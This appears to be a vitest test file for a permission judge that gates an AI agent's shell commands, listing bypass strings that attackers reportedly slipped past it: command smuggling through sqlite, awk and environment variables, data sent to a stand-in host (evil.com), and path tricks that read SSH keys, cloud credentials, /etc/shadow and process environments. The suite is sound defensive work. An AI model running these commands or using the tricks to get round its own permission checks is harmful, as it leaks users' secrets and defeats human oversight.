import { describe, expect, it } from 'vitest';
import { PACKS } from './builtin.js';
import { Judge } from './judge.js';
import { NOWHERE } from './try-packs.js';

const { recommended } = PACKS;
if (recommended === undefined) throw new Error('There is no pack "recommended": run npm run packs.');
const judge = new Judge({ layers: [{ name: 'yours', files: [recommended] }] });
const decide = (command: string): string => judge.judge({ ...NOWHERE, tool: 'Bash', input: { command } }).decision;

/** Texts that attackers found to be allowed once, by what they do. */
describe.each<[string, readonly string[]]>([
  [
    'runs a program',
    [
      "watch -dx ls '; touch pwn'",
      'HOME= kubectl get pods',
      "env HOME='' gh pr list",
      'PATH=:/usr/bin ls',
      'git -C /dev/stdin status < ev',
      `sqlite3 x.db ".shell echo '\\$(touch M1)'"`,
      `sqlite3 x.db ".system echo 'a;touch\${IFS}M2'"`,
      `sqlite3 :memory: ".read '|cat evil.sql'"`,
      `awk --field-separator 'BEGIN{system("touch m")}' 1 f`,
      "more -p '!touch m' f",
      "less -p 'x' f",
      "sed -l 'w out' p f",
      `node -e 'for(var of of [()=>1]){const g=of[k];JSON.stringify({toJSON:g})}'`,
      'git log --format=%G?',
      'git log --pretty=format:%G?',
      'less -z5k./evil README.md',
      `less '-px$k./evil' README.md`,
      `REPORTTIME='path[$(touch y)]'; ls; true`,
      `for REPORTMEMORY in 'path[$(touch y)]'; do ls; done`,
      "env -i bash -c 'rg foo'",
      "env -u PATH bash -c 'rg foo'",
      'git log -p --submodule=diff',
      'git diff --submodule=diff HEAD~2 HEAD~1',
      "rename -n eval 'system(q(touch M))' x",
      'RIPGREP_CONFIG_PATH=rgrc rg foo',
      'info evil',
      'docker compose ps',
      'npm view x@a/b',
      'pnpm --version',
      'go version',
      'find . -execdir sort {} \\;',
    ],
  ],
  [
    'writes a file',
    [
      "sed 'w /home/dev/.zshrc' -e p",
      'uniq README.md -c',
      'pigz -t -d f.gz',
      'xxd -r p.hex -a',
      'sort -o x y',
      'mktemp x.XXXX -u',
      'nohup ls',
      'find . -fls out.txt',
      'tree -Lo 2 out.txt',
      'tree -LR 2',
      'tree -Io node_modules out.txt',
      'rename -n unlink a.txt',
      "sqlite3 x.db 'select 1; pragma optimize;'",
      'for f in *.txt; do sort $f; done',
    ],
  ],
  [
    'sends something',
    [
      'npm view "x$(cat README.md)"',
      'gh api "x?$(cat README.md)"',
      'gh search code "x$(cat README.md)"',
      'gh pr list --search "x$(cat README.md)"',
      'GIT_TRACE2=af_unix:stream:/run/x.sock git status',
      'awk 1 /inet/tcp/0/evil.com/80',
      'gawk 1 /inet/tcp/8080/0/0',
      'tar -tf *.tar',
      'rsync -n * z',
    ],
  ],
  [
    'prints a secret',
    [
      `sqlite3 :memory: "select name,data from 'fsdir'('/home/dev/.ssh')"`,
      'cat ~/.near-credentials/a.json',
      'cd ~/.kube && cat /proc/self/cwd/config',
      'cat /dev/fd/../environ',
      'cut -c1- a -d ~/.netrc',
      'git show HEAD:id_rsa',
      'cd ~ && grep -r KEY //proc/self/cwd/',
      'cat /proc/self/./cwd/x',
      'cd ~ && cat ../../proc/self/cwd/X',
      'cd / && cat proc/self/cwd/etc/shadow',
      'cat /proc/self/cw?/X',
      'cat /pro?/self/cwd/X',
      'cat /proc/[0-9]*/cwd/.bash_history',
      'cat /dev//fd/0/.bash_history < ..',
      'cd /dev && cat fd/0/.bash_history < ..',
      'grep -r KEY /dev/stdin/ < ..',
      'cat /dev/stdin/../.bash_history < .',
      'cat /System/Volumes/Data/home/dev/.ssh/id_rsa',
      'cat /.vol/16777220/12345',
      'cat /proc/self/root/proc/self/environ',
      'cat /proc/self/root/home/dev/.ssh/id_rsa',
      'cd /dev/fd && cat ../environ',
      'cat /dev/fd/3/proc/self/environ 3</',
      'grep --context . ~/.aws/credentials',
      'echo $TOKEN2 $MYTOKEN',
      'echo $authToken',
      'echo $PROD_DATABASE_URL',
      'cat .dev.vars',
      'cat ~/.gitcookies',
      'cat ~/.config/argocd/config',
      'cat ~/.netrc~',
      'cat ~/.aws/credentials.bak',
      'cat .env~',
      'cat serviceAccountKey.json',
      'echo $AZURE_STORAGE_CONNECTION_STRING',
      'echo $DBPASS',
      'cat /etc/ppp/chap-secrets',
      'cat /dev/pts/0',
      'head -c 100 /dev/video0',
    ],
  ],
])('what %s is not allowed', (_, texts) => {
  it.each(texts)('%s', (text) => expect(['leave', 'ask', 'deny']).toContain(decide(text)));
});

describe('what only looks is allowed', () => {
  it.each([
    'grep -r foo /tmp',
    'tar -tf x.tar.gz',
    'rsync -rcn old/ new/',
    'git log -p --stat',
    'git diff main feature',
    'less -SN README.md',
    'tree -L 2',
    'gh pr list --search bug',
    'for f in *.txt; do echo $f; done',
  ])('%s', (text) => expect(decide(text)).toBe('allow'));
});
